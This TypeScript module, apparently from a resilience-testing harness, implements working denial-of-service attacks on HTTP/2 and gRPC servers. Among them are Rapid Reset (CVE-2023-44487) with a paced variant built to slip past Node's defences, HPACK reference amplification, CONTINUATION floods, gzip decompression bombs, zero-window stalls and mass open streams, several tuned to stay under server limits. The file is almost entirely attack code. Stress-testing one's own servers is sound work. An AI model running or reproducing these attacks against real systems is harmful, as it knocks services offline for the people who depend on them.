import { setTimeout as wait } from "node:timers/promises"
import { gzipSync } from "node:zlib"
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  indexedFields,
  plainFields,
  preface,
  prefixed,
  reference,
  requestFields,
  reset,
  settings,
  settingsAck,
  uint32,
  type Field,
} from "../raw-frames.ts"
import {
  attackOn,
  bidiOf,
  serverStreamingOf,
  unaryOf,
  type Attack,
  type AttackOptions,
  type HostileConnection,
} from "./attack.ts"

const BATCH_BYTES = 65_536
/** Beyond what any server should take on one connection; then the attacker waits. */
const MOST_STREAMS = 40_000

/** Fewer at a time than any server's limit, with time to raise that between. */
const PATIENT_CALLS = 40
const PATIENT_MS = 20

const MANY_CONNECTIONS = 20

interface Manner {
  /** Of each stream, for what the server sends. */
  window?: number
  most?: number
  patient?: boolean
  /** By one that is patient. */
  atOnce?: number
  /** Until the server has read them. */
  waits?: boolean
}

/**
 * Opens a connection and makes calls of one kind on it, by header blocks of a
 * few bytes that refer to the first.
 */
async function callAfterCall(
  connection: HostileConnection,
  fields: readonly Field[],
  { window, most = MOST_STREAMS, patient = false, atOnce = PATIENT_CALLS, waits = false }: Manner,
  call: (streamId: number, headers: (flags: number) => Buffer) => Buffer,
): Promise<void> {
  const first = indexedFields(fields)
  const again = Buffer.from(fields.map((_, i) => reference(fields.length - 1 - i)))
  if (patient) connection.answerSettings()
  await connection.send(
    Buffer.concat([preface, settings(window), ...(patient ? [] : [settingsAck])]),
  )
  let batch: Buffer[] = []
  let bytes = 0
  for (let i = 0; i < most && !connection.closed; i += 1) {
    const streamId = 2 * i + 1
    const block = i === 0 ? first : again
    const frames = call(streamId, (flags) => frame(HEADERS, END_HEADERS | flags, streamId, block))
    batch.push(frames)
    bytes += frames.length
    if (patient ? batch.length < atOnce : bytes < BATCH_BYTES) continue
    await connection.send(Buffer.concat(batch))
    if (waits) await connection.roundTrip()
    if (patient) await wait(PATIENT_MS)
    batch = []
    bytes = 0
  }
  await connection.send(Buffer.concat(batch))
}

const open =
  (manner: Manner): Attack =>
  (address, options) =>
    attackOn(address, options, (connection) =>
      callAfterCall(connection, requestFields(bidiOf(options).path), manner, (_id, headers) =>
        headers(0),
      ),
    )

/** Calls that are opened, send nothing, and stay. */
export const openStreams = open({})
/** As many as a server may allow, and all before it has allowed them. */
export const openStreamsAtOnce = open({ most: 3000 })
/** The same by one that heeds the server's limit as long as it can. */
export const patientOpenStreams = open({ patient: true })

/** The same on as many connections as together go beyond what the server takes of all. */
const byMany =
  (attack: Attack): Attack =>
  (address, options) =>
    attack(address, { connections: MANY_CONNECTIONS, ...options })

export const patientOpenStreamsOfMany = byMany(patientOpenStreams)

const askForRanges =
  (manner: Manner): Attack =>
  (address, options) => {
    const { path, message } = serverStreamingOf(options)
    return attackOn(address, options, (connection) =>
      callAfterCall(connection, requestFields(path), { window: 0, ...manner }, (id, headers) =>
        Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message))]),
      ),
    )
  }

/** Endless answers are asked for, and no byte of them may be sent. */
export const zeroWindowRanges = askForRanges({})
/** The same by one that heeds the server's limit as long as it can. */
export const patientZeroWindowRanges = askForRanges({ patient: true })
export const patientZeroWindowRangesOfMany = byMany(patientZeroWindowRanges)

/** Large requests to calls that cannot answer, as many as the server takes: 64 kB each. */
export const blockedRequests: Attack = (address, options) => {
  const { path, message } = bidiOf(options)
  // Field 15 of protobuf, 16,000 bytes that no contract knows.
  const padding = Buffer.concat([Buffer.from([0x7a, 0x80, 0x7d]), Buffer.alloc(16_000)])
  const request = prefixed(Buffer.concat([message, padding]))
  return attackOn(address, options, (connection) =>
    callAfterCall(connection, requestFields(path), { window: 0, patient: true }, (id, headers) =>
      Buffer.concat([headers(0), ...Array.from({ length: 4 }, () => frame(DATA, 0, id, request))]),
    ),
  )
}

export const blockedRequestsOfMany = byMany(blockedRequests)

/** Unary calls whose answers are never taken from the socket. */
export const unreadUnaryCalls: Attack = (address, options) => {
  const { path, message } = unaryOf(options)
  return attackOn(
    address,
    options,
    (connection) =>
      callAfterCall(connection, requestFields(path), { most: 1e9 }, (id, headers) =>
        Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message))]),
      ),
    { reads: false },
  )
}

/** Calls of methods that nobody offers, by long paths. */
export const unknownPaths: Attack = (address, options) =>
  attackOn(address, options, (connection) =>
    callAfterCall(
      connection,
      requestFields(`/no.such.Service/${"x".repeat(2000)}`),
      { most: 1e9 },
      (_id, headers) => headers(END_STREAM),
    ),
  )

const resetAtOnce =
  (manner: Manner): Attack =>
  (address, options) => {
    const { path, message } = unaryOf(options)
    return attackOn(address, options, (connection) =>
      callAfterCall(connection, requestFields(path), { most: 1e9, ...manner }, (id, headers) =>
        Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message)), reset(id)]),
      ),
    )
  }

/** CVE-2023-44487: calls that are opened and reset at once. */
export const rapidReset = resetAtOnce({})
/** So few at a time that Node, which refuses 100 streams and then ends a connection, has nothing against them. */
export const pacedRapidReset = resetAtOnce({ patient: true, atOnce: 60, waits: true })

const referToLargeField =
  ({ patient = false }: Manner): Attack =>
  (address, options) =>
    attackOn(address, options, async (connection) => {
      if (patient) connection.answerSettings()
      await connection.send(Buffer.concat([preface, settings(), ...(patient ? [] : [settingsAck])]))
      const bomb = indexedFields([["x", "y".repeat(3950)]])
      const fields = plainFields(requestFields(bidiOf(options).path))
      const again = Buffer.alloc(14, reference(0))
      let streamId = 1
      let block = Buffer.concat([fields, bomb])
      while (streamId < 2 * MOST_STREAMS && !connection.closed) {
        const batch: Buffer[] = []
        for (let i = 0; i < (patient ? PATIENT_CALLS : 400); i += 1) {
          batch.push(frame(HEADERS, END_HEADERS, streamId, block))
          block = Buffer.concat([fields, again])
          streamId += 2
        }
        await connection.send(Buffer.concat(batch))
        if (patient) await wait(PATIENT_MS)
      }
    })

/** A field of 4,000 bytes is kept, and each call refers to it 14 times: 56 kB of headers by 20 bytes. */
export const hpackReferences = referToLargeField({})
/** The same by one that heeds the server's limit as long as it can. */
export const patientHpackReferences = referToLargeField({ patient: true })

/** Requests of which all but the last byte comes, as large as a server takes. */
export const halfMessages: Attack = (address, options) => {
  const { path } = unaryOf(options)
  const chunk = Buffer.alloc(16_384)
  const start = Buffer.concat([Buffer.from([0]), uint32(4_000_000), Buffer.alloc(9000)])
  return attackOn(address, options, async (connection) => {
    await callAfterCall(connection, requestFields(path), { most: 1000 }, (id, headers) =>
      Buffer.concat([headers(0), frame(DATA, 0, id, start)]),
    )
    // What flow control lets through is the server's to decide: the rest is only sent where it may be.
    for (let round = 0; round < 240; round += 1)
      for (let i = 0; i < 1000 && !connection.closed; i += 1)
        await connection.send(frame(DATA, 0, 2 * i + 1, chunk))
  })
}

/** Messages of 4 kB that unpack to just below 4 MiB, of calls that stay open. */
export const gzipBombs: Attack = (address, options) =>
  bombs(address, options, gzipSync(Buffer.alloc(4_190_000)))

/** Messages of 100 kB that unpack to 100 MB. */
export const largeGzipBombs: Attack = (address, options) =>
  bombs(address, options, gzipSync(Buffer.alloc(100_000_000)).subarray(0, 65_000))

function bombs(address: string, options: AttackOptions, bomb: Buffer) {
  const { path } = unaryOf(options)
  const message = prefixed(bomb, { compressed: true })
  const fields: Field[] = [...requestFields(path), ["grpc-encoding", "gzip"]]
  return attackOn(address, options, (connection) =>
    callAfterCall(connection, fields, { most: 10_000 }, (id, headers) => {
      const frames = [headers(0)]
      for (let at = 0; at < message.length; at += 16_384)
        frames.push(frame(DATA, 0, id, message.subarray(at, at + 16_384)))
      return Buffer.concat(frames)
    }),
  )
}

/** A call whose headers never end. */
export const continuationFlood: Attack = (address, options) =>
  attackOn(address, options, async (connection) => {
    const block = plainFields(requestFields(unaryOf(options).path))
    await connection.send(Buffer.concat([preface, settings(), settingsAck]))
    await connection.send(frame(HEADERS, 0, 1, block))
    const more = frame(CONTINUATION, 0, 1, plainFields([["x", "y"]]))
    const batch = Buffer.concat(Array.from({ length: 1000 }, () => more))
    while (!connection.closed) await connection.send(batch)
  })
